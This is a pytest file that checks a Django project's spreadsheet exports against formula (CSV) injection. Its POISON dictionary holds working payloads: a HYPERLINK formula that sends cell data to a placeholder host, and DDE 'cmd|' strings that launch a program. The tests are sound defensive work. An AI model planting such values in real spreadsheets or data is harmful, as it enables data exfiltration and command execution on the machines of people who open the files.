"""Formula injection (CSV injection) in every spreadsheet export (issue 13, item 6).

The attack: an applicant's name, an agency or procedure name, a citizen's comment... that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is opened by Excel or LibreOffice as a
formula (``=HYPERLINK(...)`` sends the data away, ``=cmd|...`` runs a program). The defence is one
module, ``motcua.core.spreadsheets``; this file checks:

- the module itself (every dangerous first character, both formats);
- the source: no module writes a CSV or saves a workbook except through that module (a new
  export that forgets it fails here);
- every export over HTTP, discovered from the URL configuration (the scope matrix's registry:
  every URL of the project is in it): each GET URL is requested with the spreadsheet parameters
  the project uses (``format=csv|xlsx``, ``download=1``, every grouping), and every answer that
  is a CSV or an XLSX is parsed: no cell is a formula, every poisoned text comes back as the
  literal text (XLSX: a string cell; CSV: with the leading single quote);
- the catalogue export (a management command, not a URL).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.db import transaction
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from motcua.catalogue import formats, selectors
from motcua.catalogue.models import Field, Procedure, ProcedureVersion
from motcua.core import spreadsheets
from motcua.core.tests.scope_registry import MACHINE, PUBLIC, REGISTRY, Entry
from motcua.core.tests.scope_world import ScopeWorld, build_scope_world
from motcua.evaluation import criteria
from motcua.evaluation.models import Evaluation
from motcua.evaluation.services import evaluation_submit
from motcua.organisations.models import Agency, OrgUnit
from motcua.records.models import Record
from motcua.records.tests.factories import travel

SRC = Path(__file__).resolve().parents[2]

# One poisoned text per dangerous first character, each in a field that exports print.
POISON = {
    "=": '=HYPERLINK("http://127.0.0.1/x?d="&A1,"Sở Tư pháp")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1 Phòng Hành chính",
    "\r": "\r=1+1 Lê Văn Bình",
}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# ---- the module ------------------------------------------------------------------------------
@pytest.mark.parametrize("prefix", spreadsheets.DANGEROUS_PREFIXES)
def test_dangerous_text_is_text_in_both_formats(prefix: str) -> None:
    text = prefix + "1+1"
    assert spreadsheets.is_dangerous(text)
    rows = list(
        csv.reader(io.StringIO(spreadsheets.csv_bytes([[text, 5, -3]]).decode("utf-8-sig")))
    )
    assert rows == [["'" + text, "5", "-3"]]
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.append([text, -3])
    cell = load_workbook(io.BytesIO(spreadsheets.xlsx_bytes(book))).worksheets[0]["A1"]
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert cell.value == text


def test_harmless_values_are_unchanged() -> None:
    for value in ("Nguyễn Văn An", "0912345678", "", 12, -3, None, "a=b", "'quoted"):
        assert not spreadsheets.is_dangerous(value)
        assert spreadsheets.csv_text(value) == value


# ---- the source ------------------------------------------------------------------------------
def _sources() -> Iterator[tuple[str, str]]:
    for path in sorted(SRC.rglob("*.py")):
        relative = path.relative_to(SRC).as_posix()
        if (
            "/tests/" in relative
            or "/migrations/" in relative
            or relative.endswith("spreadsheets.py")
        ):
            continue
        yield relative, path.read_text(encoding="utf-8")


def test_every_spreadsheet_is_written_through_the_one_module() -> None:
    """A CSV writer, or a workbook saved, anywhere but motcua.core.spreadsheets fails here."""
    offenders = []
    for name, text in _sources():
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            offenders.append(f"{name}: csv writer (use spreadsheets.csv_bytes)")
        if re.search(r"\bWorkbook\(", text) and "spreadsheets.xlsx_bytes(" not in text:
            offenders.append(f"{name}: workbook not saved by spreadsheets.xlsx_bytes")
        if "openpyxl" in text and re.search(r"\.save\((buffer|out|stream|io\.BytesIO)", text):
            offenders.append(f"{name}: workbook saved directly")
    assert not offenders, "\n".join(offenders)


# ---- the world, poisoned ---------------------------------------------------------------------
@pytest.fixture(scope="module")
def poisoned(django_db_setup: Any, django_db_blocker: Any) -> Iterator[ScopeWorld]:
    with django_db_blocker.unblock():
        atomic = transaction.atomic()
        atomic.__enter__()
        try:
            sw = build_scope_world()
            world = sw.world
            Agency.objects.filter(pk=world.justice.pk).update(name=POISON["="])
            Procedure.objects.update(name=POISON["+"])
            ProcedureVersion.objects.update(name=POISON["+"])
            Field.objects.update(name=POISON["-"])
            Record.objects.update(applicant_name=POISON["@"])
            OrgUnit.objects.update(name=POISON["\t"])
            with travel("2025-06-02 09:00"):
                evaluation_submit(
                    actor=None,
                    record=sw.record,
                    channel="qr",
                    secret=sw.record.lookup_secret,
                    answers={n: 0 for n in range(1, 10)},
                    satisfaction=criteria.Satisfaction.DISSATISFIED,
                    comment="x",
                )
            # The service strips the comment: a carriage return first is only reachable this way.
            Evaluation.objects.update(comment=POISON["\r"])
            yield sw
        finally:
            transaction.set_rollback(True)
            atomic.__exit__(None, None, None)


PERIOD = {"from": "2025-01-01", "to": "2025-12-31", "start": "2025-01-01", "end": "2025-12-31"}
# The parameters the project's pages use to ask for a file, and the groupings of the reports.
VARIANTS: tuple[dict[str, str], ...] = (
    {},
    {"format": "csv"},
    {"format": "xlsx"},
    {"download": "1"},
)
GROUPINGS: tuple[dict[str, str], ...] = (
    {"group_by": "field"},
    {"group_by": "procedure"},
    {"group": "unit"},
    {"group": "procedure"},
    {"group": "officer"},
)
USER_ORDER = ("superuser", "reception", "leader", "unit_head", "supervisor", "specialist")


def _user_for(entry: Entry) -> str | None:
    if entry.access == PUBLIC:
        return "anonymous"
    return next((u for u in USER_ORDER if u in entry.allowed), None)


def _kind(response: Any) -> str:
    content_type = response.get("Content-Type", "")
    if content_type.startswith(XLSX):
        return "xlsx"
    if content_type.startswith("text/csv"):
        return "csv"
    return ""


def _cells(kind: str, content: bytes) -> Iterator[tuple[str, Any, str]]:
    """(where, value, problem or "") for every cell of a CSV or XLSX."""
    if kind == "xlsx":
        book = load_workbook(io.BytesIO(content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    where = f"{sheet.title}!{cell.coordinate}"
                    if cell.data_type == "f":
                        yield where, cell.value, "is a formula"
                    elif spreadsheets.is_dangerous(cell.value) and cell.data_type != "s":
                        yield where, cell.value, f"typed {cell.data_type}"
                    else:
                        yield where, cell.value, ""
        return
    for r, row in enumerate(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))):
        for c, value in enumerate(row):
            where = f"row {r + 1} column {c + 1}"
            if spreadsheets.is_dangerous(value):
                yield where, value, "starts with a formula character"
            elif value.startswith("'") and spreadsheets.is_dangerous(value[1:]):
                yield where, value[1:], ""
            else:
                yield where, value, ""


def _check(kind: str, content: bytes, seen: set[str]) -> list[str]:
    problems = []
    for where, value, problem in _cells(kind, content):
        if problem:
            problems.append(f"{where} {value!r} {problem}")
            continue
        if not isinstance(value, str):
            continue
        for prefix, text in POISON.items():
            if value.startswith(text):  # the literal text (a cell may add lines after it)
                seen.add(prefix)
    return problems


@pytest.mark.django_db
def test_every_export_writes_dangerous_text_as_text(poisoned: ScopeWorld, settings: Any) -> None:
    settings.MOTCUA_LOOKUP_RATE = "100000/min"
    clients: dict[str, Client] = {}
    exports: dict[str, set[str]] = {}
    problems: list[str] = []
    seen: set[str] = set()
    for name, entry in sorted(REGISTRY.items()):
        user = _user_for(entry)
        if entry.post_only or entry.access == MACHINE or user is None:
            continue
        if user not in clients:
            clients[user] = Client()
            if poisoned.users[user] is not None:
                clients[user].force_login(poisoned.users[user])
        url = reverse(name, kwargs=entry.kwargs(poisoned))
        base = {**PERIOD, **entry.query(poisoned)}
        for variant in VARIANTS:
            response = clients[user].get(url, {**base, **variant})
            kind = _kind(response)
            if response.get("Content-Type", "").startswith("application/pdf"):
                break  # a printed form: no parameter turns it into a spreadsheet
            if not kind:
                continue
            for grouping in ({}, *GROUPINGS):
                if grouping:
                    response = clients[user].get(url, {**base, **variant, **grouping})
                    if _kind(response) != kind:
                        continue
                exports.setdefault(name, set()).add(kind)
                for problem in _check(kind, response.content, seen):
                    problems.append(f"{name} {variant} {grouping}: {problem}")
    assert not problems, "\n".join(problems)
    # Discovery found the exports (a floor, not the list: any other export found is checked too).
    assert {
        "reporting:settlement_csv",
        "reporting:settlement_xlsx",
        "records:tracking_book",
        "evaluation:report",
    } <= set(exports), exports
    # Every dangerous first character reached at least one export and came back as text.
    assert seen == set(POISON), f"not seen in any export: {set(POISON) - seen}"


@pytest.mark.django_db
def test_the_catalogue_export_writes_dangerous_text_as_text(poisoned: ScopeWorld) -> None:
    content = formats.export_bytes(
        formats.export_items(selectors.versions_for_export(user=None)), "xlsx"
    )
    seen: set[str] = set()
    assert _check("xlsx", content, seen) == []
    assert {"+", "-"} <= seen
